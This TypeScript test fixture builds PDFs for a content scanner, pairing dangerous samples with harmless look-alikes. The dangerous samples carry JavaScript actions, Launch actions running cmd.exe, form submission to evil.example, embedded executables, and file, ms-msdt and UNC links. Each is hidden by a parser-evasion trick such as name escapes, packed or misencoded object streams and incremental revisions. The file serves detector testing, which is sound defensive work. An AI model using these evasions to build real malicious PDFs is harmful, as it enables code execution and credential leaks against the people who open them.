// PDFs that run, send, fetch or carry something, each hidden in a different way, and harmless ones that look like them.
import { deflateSync } from 'node:zlib';
import type { ForbiddenPdfContent } from '#src/platform/workers/tasks.ts';
import { onePage, page, rawPdf, stream } from './pdfs.ts';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const [, pages, emptyPage] = onePage as [string, string, string]; // the three objects of the document
const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;
const withCatalog = (entries: string, ...more: (string | Buffer)[]) =>
  rawPdf([catalog(entries), pages, emptyPage, ...more]);
const annotated = (annotation: string, ...more: (string | Buffer)[]) =>
  rawPdf([catalog(''), pages, page(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]`), ...more]);
const linked = (action: string, ...more: (string | Buffer)[]) =>
  annotated(`/Subtype /Link /A << ${action} >>`, ...more);

/** An object stream, encoded by `pack`. No table lists its objects: only a viewer that repairs the file finds them. */
const packed = (objects: string[], entries: string, pack: (bytes: Buffer) => Buffer = (bytes) => bytes) => {
  let offset = 0;
  const places = objects.map((object, index) => {
    const place = `${20 + index} ${offset}`;
    offset += object.length + 1;
    return place;
  });
  const head = `${places.join(' ')} `;
  const data = pack(Buffer.from(head + objects.join(' ')));
  return stream(data, `/Type /ObjStm /N ${objects.length} /First ${head.length} ${entries}`);
};

/** The file with an incremental update whose cross-reference table lists these objects. */
function revised(before: Buffer, objects: Record<number, string>): Buffer {
  const added: Buffer[] = [];
  let length = before.length;
  const rows = Object.entries(objects).map(([number, object]) => {
    const bytes = Buffer.from(`${number} 0 obj\n${object}\nendobj\n`);
    added.push(bytes);
    length += bytes.length;
    return `${number} 1\n${String(length - bytes.length).padStart(10, '0')} 00000 n \n`;
  });
  const previous = before.toString('latin1').match(/startxref\n(\d+)/)?.[1];
  const end = `xref\n${rows.join('')}trailer\n<< /Size 30 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([before, ...added, Buffer.from(end)]);
}

/** Minimal LZW: clears the code table often enough that every code stays 9 bits wide. */
function lzw(bytes: Buffer): Buffer {
  const codes = [...bytes].flatMap((byte, index) => (index % 250 === 0 ? [256, byte] : [byte]));
  const bits = [...codes, 257].map((code) => code.toString(2).padStart(9, '0')).join('');
  return Buffer.from((bits.match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)));
}

const damagedChecksum = (bytes: Buffer) => {
  const whole = deflateSync(bytes);
  whole.fill(0, whole.length - 4);
  return whole;
};

type Trick = [danger: ForbiddenPdfContent | 'encrypted' | 'broken', bytes: () => Buffer];

export const dangerousPdfs: Record<string, Trick> = {
  'a script at the opening': ['script', () => withCatalog(`/OpenAction ${script}`)],
  'a script of a name': ['script', () => withCatalog(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)],
  'a script behind escapes': ['script', () => withCatalog('/OpenAction << /S /J#61va#53cript /JS (x) >>')],
  'a script of a page': ['script', () => rawPdf([catalog(''), pages, page(`/AA << /O ${script} >>`)])],
  'a script of a link': ['script', () => linked('/S /JavaScript /JS 4 0 R', stream(Buffer.from('x')))],
  'a script of a field': ['script', () => annotated(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} >>`)],
  'a script whose kind stands alone': ['script', () => linked('/S 4 0 R /JS (x)', '/JavaScript')],
  'a film with a script': ['script', () => linked('/S /Rendition /OP 0 /JS (x)')],
  'a script that a comment divides': ['script', () => linked('/S%x\n/JavaScript%x\n/JS (x)')],
  'a script in an object that nothing lists': ['script', () => withCatalog('', `<< /A ${script} >>`)],
  'a script behind a comment of its header': [
    'script',
    () => Buffer.concat([withCatalog(''), Buffer.from(`9 0 %${'x'.repeat(300)}\nobj ${script} endobj\n%%EOF`)]),
  ],
  'a script of an object whose header is one word': [
    'script',
    () => Buffer.concat([withCatalog(''), Buffer.from(`9 0obj${script}endobj\n%%EOF`)]),
  ],
  'a script in the bytes of a stream': [
    'script',
    () => withCatalog('', stream(Buffer.from(`9 0 obj ${script} endobj`))),
  ],
  'a script in an older revision': ['script', () => revised(withCatalog(`/OpenAction ${script}`), { 1: catalog('') })],
  'a script in a newer revision': ['script', () => revised(withCatalog(''), { 1: catalog(`/OpenAction ${script}`) })],
  'a script in the trailer itself': [
    'script',
    () => Buffer.concat([withCatalog(''), Buffer.from(`trailer << /Root << /OpenAction ${script} >> >>\n%%EOF`)]),
  ],
  'a script behind a dictionary that is not closed': [
    'script',
    () => withCatalog('', '<< /A << /B 1 endobj /S /JavaScript /JS (x) >>'),
  ],
  'a script among packed objects': [
    'script',
    () =>
      withCatalog(
        '',
        packed([script], '/Filter /FlateDecode', (bytes) => deflateSync(bytes)),
      ),
  ],
  'a script among packed objects of no type': [
    'script',
    () => withCatalog('', Buffer.from(packed([script], '').toString('latin1').replace('/Type /ObjStm', ''))),
  ],
  'a script among objects that are packed twice': [
    'script',
    () =>
      withCatalog(
        '',
        packed([script], '/Filter [/AHx /Fl]', (bytes) => Buffer.from(`${deflateSync(bytes).toString('hex')}>`)),
      ),
  ],
  'a script among objects packed by LZW': [
    'script',
    () => withCatalog('', packed([script], '/Filter /LZWDecode', lzw)),
  ],
  'a script among objects whose checksum is wrong': [
    'script',
    () => withCatalog('', packed([script], '/Filter /FlateDecode', damagedChecksum)),
  ],
  'a script among objects with a wrong length': [
    'script',
    () =>
      withCatalog(
        '',
        Buffer.from(
          packed([script], '')
            .toString('latin1')
            .replace(/\/Length \d+/, '/Length 3'),
        ),
      ),
  ],
  'packed objects with a predictor': [
    'broken',
    () =>
      withCatalog(
        '',
        packed(['1'], '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>', (bytes) => deflateSync(bytes)),
      ),
  ],
  'packed objects of a kind that there is not': [
    'broken',
    () =>
      withCatalog(
        '',
        packed(['1'], '/Filter /FlateDecode', () => Buffer.from('789c07', 'hex')),
      ),
  ],
  'a second trailer that encrypts': [
    'encrypted',
    () => Buffer.concat([withCatalog(''), Buffer.from('trailer << /Encrypt 4 0 R >>\n')]),
  ],
  'the start of a program': ['launch', () => linked('/S /Launch /F (cmd.exe)')],
  'the start of a program, in another’s dictionary': ['launch', () => linked('/S /Launch /Win << /F (cmd.exe) >>')],
  'a form that is sent': ['form', () => linked('/S /SubmitForm /F (https://evil.example/)')],
  'data that are fetched': ['form', () => linked('/S /ImportData /F (data.fdf)')],
  'a dynamic form': ['xfa', () => withCatalog('/AcroForm << /XFA [(template) 4 0 R] >>', stream(Buffer.from('<x/>')))],
  'a program that is attached': [
    'attachment',
    () =>
      withCatalog(
        '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>',
        stream(Buffer.from('MZ'), '/Type /EmbeddedFile'),
      ),
  ],
  'a file behind a pin': [
    'attachment',
    () => annotated('/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 4 0 R >> >>', stream(Buffer.from('MZ'))),
  ],
  'the way into an attached document': ['attachment', () => linked('/S /GoToE /T << /R /C /N (a) >>')],
  'a film that is a program': ['media', () => annotated('/Subtype /RichMedia /RichMediaContent << >>')],
  'a link to a file': ['remote', () => linked('/S /URI /URI (file:///C:/Windows/System32/calc.exe)')],
  'a link with a scheme of a program': ['remote', () => linked('/S /URI /URI (ms-msdt:/id PCWDiagnostic)')],
  'a link with a script for an address': ['remote', () => linked('/S /URI /URI (java\\tscript:alert\\(1\\))')],
  'a link into the local network': ['remote', () => linked('/S /URI /URI (\\\\\\\\server\\\\share)')],
  'a link into the network in hexadecimal': ['remote', () => linked('/S /URI /URI <5C5C736572766572>')],
  'a link into the network in two-byte letters': ['remote', () => linked('/S /URI /URI <FEFF005C005C0073>')],
  'a link into the network by another object': [
    'remote',
    () => linked('/S /URI /URI 4 0 R', '(\\\\\\\\server\\\\share)'),
  ],
  'another document in the network': ['remote', () => linked('/S /GoToR /F (\\\\\\\\server\\\\a.pdf) /D [0 /Fit]')],
  'another document in the network, as PDF writes it': [
    'remote',
    () => linked('/S /GoToR /F << /UF (/server/a.pdf) >>'),
  ],
  'another document on the disk': ['remote', () => linked('/S /GoToR /F (C:\\\\Users\\\\a.pdf) /D [0 /Fit]')],
  'all links from the disk': ['remote', () => withCatalog('/URI << /Base (file:///C:/) >>')],
  'a stream whose data lie elsewhere': [
    'remote',
    () => withCatalog('', stream(Buffer.from(''), '/F (http://a.example/)')),
  ],
  'an address that opens by itself': [
    'remote',
    () => withCatalog('/OpenAction << /S /URI /URI (https://evil.example/) >>'),
  ],
  'an address that opens after a step': [
    'remote',
    () => withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example/) >>] >>'),
  ],
  'an address that a page opens': [
    'remote',
    () => rawPdf([catalog(''), pages, page('/AA << /O << /S /URI /URI (https://evil.example/) >> >>')]),
  ],
};

export const harmlessPdfs: Record<string, () => Buffer> = {
  'links to the web and to a mailbox': () =>
    rawPdf([
      catalog(''),
      pages,
      page(
        `/Annots [${[
          'https://a.example/(JavaScript)/Launch',
          'mailto:a@b.example',
          'www.a.example/a.pdf',
          'doi:10.1000/182',
        ]
          .map((to) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${to}) >> >>`)
          .join(' ')}]`,
      ),
    ]),
  'a link to a chapter beside it': () => linked('/S /GoToR /F (chapter2.pdf) /D [0 /Fit]'),
  'chapters with the names of dangers': () =>
    withCatalog('/Dests << /JavaScript [3 0 R /Fit] /Launch [3 0 R /Fit] >> /OpenAction [3 0 R /Fit]'),
  'a title that is an address of a file': () => withCatalog('', '<< /Title (file:///C:/Users/asha/essay.html) >>'),
  'words about scripts': () => withCatalog('', '<< /Title (How /S /JavaScript /JS (app.alert\\(1\\)) runs) >>'),
  'a film without a script': () => linked('/S /Rendition /OP 0 /R << /Type /Rendition /S /MR /N (Film) >>'),
  'a field with flags': () => annotated('/Subtype /Widget /FT /Tx /T (a) /F 4'),
  'a second revision': () => revised(withCatalog(''), { 1: catalog('/Lang (en)') }),
};
